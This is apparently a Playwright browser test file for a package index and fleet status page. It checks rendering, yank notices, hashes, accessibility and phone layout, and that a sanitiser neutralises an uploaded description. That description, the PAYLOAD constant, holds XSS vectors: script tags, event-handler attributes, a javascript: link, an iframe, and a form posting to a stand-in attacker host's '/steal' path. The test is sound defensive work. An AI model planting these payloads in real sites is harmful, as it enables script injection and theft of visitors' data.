"""The pages for people as a person sees them: a real headless Chromium (Debian's) against a
real embedded index holding a release, a yanked version and a description that carries an
XSS payload, and the fleet page `ytc-release fleet --html` writes over real services.

Every page: what it shows, that no script from a description ran, that the browser asked
nothing off this machine, axe-core finds no serious or critical violation, and it reads on
a phone's width. Screenshots go to bench-results/browser/ (CI keeps them)."""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, sync_playwright

from tests.conftest import REPO_ROOT
from tests.services.test_fleet import set_pin, start_service
from tests.support.browser import FLAGS, axe_script, ensure_chromium, is_local
from tests.support.index import make_sdist, twine_upload
from tests.support.net import http_get
from tests.support.redis_server import RedisServer
from tests.support.workspace import Workspace, make_workspace

PROJECT = "ytcaption-common"
SHOTS = REPO_ROOT / "bench-results" / "browser"
YANK_REASON = "breaks Redis reconnects <b>badly</b>; use 2.1.0"
# TEST-NET-2: never routed. Any request for it is a resource a description smuggled in.
EVIL = "http://198.51.100.7"
PAYLOAD = f"""# ytcaption-common

Shared models, logging and the Redis store for the YTCaption services.

<script>window.__xss = "script"</script>
<img src="{EVIL}/pixel.png" onerror="window.__xss='img'">
![remote image]({EVIL}/remote.png)
[a javascript link](javascript:window.__xss='link')
<a href="{EVIL}/" onclick="window.__xss='click'">a plain link</a>
<iframe src="{EVIL}/frame"></iframe>
<svg onload="window.__xss='svg'"><circle r="4"/></svg>
<style>@import url("{EVIL}/x.css");</style>
<details open ontoggle="window.__xss='toggle';alert(1)"><summary>more</summary>text</details>
<form action="{EVIL}/steal"><input name="q"></form>

## Changelog

### [2.1.0] - 2026-12-01
- The Redis store retries with backoff.

### [2.0.1] - 2026-11-30
- Structured logs carry the request id.
"""


def wheel(directory: Path, version: str, description: str) -> Path:
    """A valid wheel whose METADATA carries a Markdown description."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"ytcaption_common-{version}-py3-none-any.whl"
    dist = f"ytcaption_common-{version}.dist-info"
    metadata = (
        f"Metadata-Version: 2.1\nName: {PROJECT}\nVersion: {version}\nSummary: Shared code of the YTCaption services\n"
        f"Requires-Python: >=3.10\nDescription-Content-Type: text/markdown\n\n{description}"
    )
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("ytcaption_common/__init__.py", f"__version__ = {version!r}\n")
        zf.writestr(f"{dist}/METADATA", metadata)
        zf.writestr(f"{dist}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        zf.writestr(f"{dist}/RECORD", "")
    return path


@dataclass
class Site:
    ws: Workspace
    index_url: str
    user: str
    fleet_page: Path
    running: str
    sha256: dict[str, str] = field(default_factory=dict)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    tmp = tmp_path_factory.mktemp("browser")
    ws = make_workspace(REPO_ROOT, tmp)
    with pytest.MonkeyPatch.context() as env:
        env.setenv("YTC_INDEX_FALLBACK_URL", "http://127.0.0.1:9/fallback-simple/")
        url, _ = ws.index.up(ws.port)
    redis = RedisServer(tmp / "redis")
    procs = []
    try:
        _, user, password = ws.index.credentials()
        files = [
            wheel(tmp / "dist", "2.0.0", "# ytcaption-common\n\nThe first release on this index.\n"),
            make_sdist(tmp / "dist", version="2.0.0"),
            wheel(tmp / "dist", "2.0.1", "# ytcaption-common\n\nA patch.\n"),
            wheel(tmp / "dist", "2.1.0", PAYLOAD),
        ]
        uploaded = twine_upload(url, files, user, password)
        assert uploaded.returncode == 0, uploaded.stdout + uploaded.stderr
        yanked = ws.ytc(
            "index", "yank", PROJECT, "2.0.1", "--reason", YANK_REASON, "--packages", str(ws.index_home / "packages")
        )
        assert yanked.returncode == 0, yanked.stdout + yanked.stderr
        # Two real services on loopback; the repository pins one of them to a version its VM does not run.
        redis.start()
        urls = []
        for service in ("orchestrator", "services/youtube-search"):
            proc, service_url = start_service(REPO_ROOT / service, redis.url, tmp / "logs" / service)
            procs.append(proc)
            urls.append(service_url)
        running = json.loads(http_get(f"{urls[0]}/health")[1])["common_version"]
        set_pin(ws, "orchestrator", running)
        set_pin(ws, "services/youtube-search", "2.1.0")
        fleet_page = tmp / "fleet.html"
        fleet = ws.ytc("fleet", *urls, "--html", str(fleet_page))
        assert fleet.returncode == 1 and "DRIFT" in fleet.stdout, fleet.stdout + fleet.stderr
        sha = {f.name: hashlib.sha256(f.read_bytes()).hexdigest() for f in files}
        yield Site(ws, url.rstrip("/") + "/", user, fleet_page, running, sha)
    finally:
        for proc in procs:
            proc.terminate()
            proc.wait(timeout=10)
        redis.stop()
        ws.index.down()


@dataclass
class Visit:
    page: Page
    requests: list[str]
    dialogs: list[str]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=ensure_chromium(), args=FLAGS)
        yield launched
        launched.close()


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    # bypass_csp: axe-core is injected as an inline script, which the pages' CSP forbids. It also
    # means the sanitiser alone has to stop the payload below; the CSP is a second line.
    context = browser.new_context(viewport={"width": 1100, "height": 900}, bypass_csp=True)
    page = context.new_page()
    seen = Visit(page, [], [])
    page.on("request", lambda request: seen.requests.append(request.url))

    def dismiss(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    yield seen
    context.close()


def check_as_a_person_would(visit: Visit, shot: str) -> None:
    """No script from the page's data ran, nothing was asked off the machine, axe finds no
    serious violation, nothing overflows a phone's width; then the screenshots."""
    page = visit.page
    assert page.evaluate("() => window.__xss") is None
    assert visit.dialogs == []
    assert visit.requests and all(is_local(url) for url in visit.requests), visit.requests
    page.add_script_tag(path=str(axe_script()))
    assert serious_violations(page) == []
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.evaluate("() => window.scrollTo(0, 0)")
    page.screenshot(path=str(SHOTS / f"{shot}.png"))
    page.set_viewport_size({"width": 390, "height": 844})
    page.evaluate("() => window.scrollTo(0, 0)")
    # On a phone nothing is wider than the screen: tables turn into one card per row.
    assert page.evaluate("() => document.documentElement.scrollWidth <= window.innerWidth + 1"), "wider than a phone"
    assert page.evaluate(
        "() => [...document.querySelectorAll('table')].every(t => t.scrollWidth <= t.parentElement.clientWidth + 1)"
    ), "a table scrolls sideways on a phone"
    assert serious_violations(page) == []
    page.screenshot(path=str(SHOTS / f"{shot}-phone.png"))


def serious_violations(page: Page) -> list[tuple[str, str, list[str]]]:
    result = page.evaluate("async () => await axe.run(document, {resultTypes: ['violations']})")
    return [
        (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
        for v in result["violations"]
        if v["impact"] in ("serious", "critical")
    ]


def test_the_root_page_lists_the_project_with_its_newest_version(site: Site, visit: Visit) -> None:
    page = visit.page
    assert page.goto(site.index_url).status == 200
    row = page.locator("tr", has_text=PROJECT)
    assert row.locator("td").nth(0).inner_text() == "2.1.0"  # 2.0.1 is yanked, 2.1.0 is the newest
    assert row.locator("td").nth(2).inner_text() == "3"
    check_as_a_person_would(visit, "index-root")
    page.set_viewport_size({"width": 1100, "height": 900})
    page.get_by_role("link", name=PROJECT).click()
    assert page.url == f"{site.index_url}project/{PROJECT}/"


def test_the_project_page_shows_versions_yank_reason_install_and_lock_lines(site: Site, visit: Visit) -> None:
    page = visit.page
    assert page.goto(f"{site.index_url}project/{PROJECT}/").status == 200
    rows = page.locator("tbody tr")
    assert [rows.nth(i).get_attribute("id") for i in range(rows.count())] == ["v2.1.0", "v2.0.1", "v2.0.0"]
    yanked = page.locator("#v2\\.0\\.1")
    assert yanked.locator(".yanked").inner_text() == f"YANKED: {YANK_REASON}. pip installs it only when pinned exactly."
    assert site.user in yanked.inner_text()  # the account that uploaded it
    assert ">=3.10" in page.locator("#v2\\.1\\.0").inner_text()
    wheel_210 = "ytcaption_common-2.1.0-py3-none-any.whl"
    assert site.sha256[wheel_210] in page.locator("#v2\\.1\\.0").inner_text()
    assert page.locator("#install-line").inner_text() == f"{PROJECT}==2.1.0"
    assert page.locator("#lock-line").inner_text() == f"{PROJECT}==2.1.0 \\\n    --hash=sha256:{site.sha256[wheel_210]}"
    assert "The Redis store retries with backoff." in page.locator(".changes").inner_text()
    assert "Structured logs" not in page.locator(".changes").inner_text()  # only 2.1.0's section
    description = page.locator(".description")
    assert "Shared models, logging and the Redis store" in description.inner_text()
    # What the payload tried: nothing of it that runs or fetches is in the page.
    for selector in ("script", "img", "iframe", "svg", "style", "form", "[onerror]", "[onclick]", "[ontoggle]"):
        assert description.locator(selector).count() == 0, selector
    assert page.locator("a[href^='javascript:']").count() == 0
    page.locator("details summary").click()  # the toggle handler the payload hoped for
    check_as_a_person_would(visit, "index-project")


def test_the_fleet_page_marks_drift_in_colour_and_words(site: Site, visit: Visit) -> None:
    page = visit.page
    page.goto(site.fleet_page.as_uri())
    drift = page.locator("tr", has_text="youtube-search")
    state = drift.locator("td.state")
    assert state.inner_text() == f"DRIFT: runs {site.running}, pins 2.1.0"
    assert state.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(253, 232, 232)"
    in_line = page.locator("tr", has_text="orchestrator").locator("td.state")
    assert in_line.inner_text() == "OK: runs its pin"
    assert in_line.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(230, 244, 234)"
    assert "2.1.0" in drift.inner_text()  # the index's newest, in its column
    check_as_a_person_would(visit, "fleet")
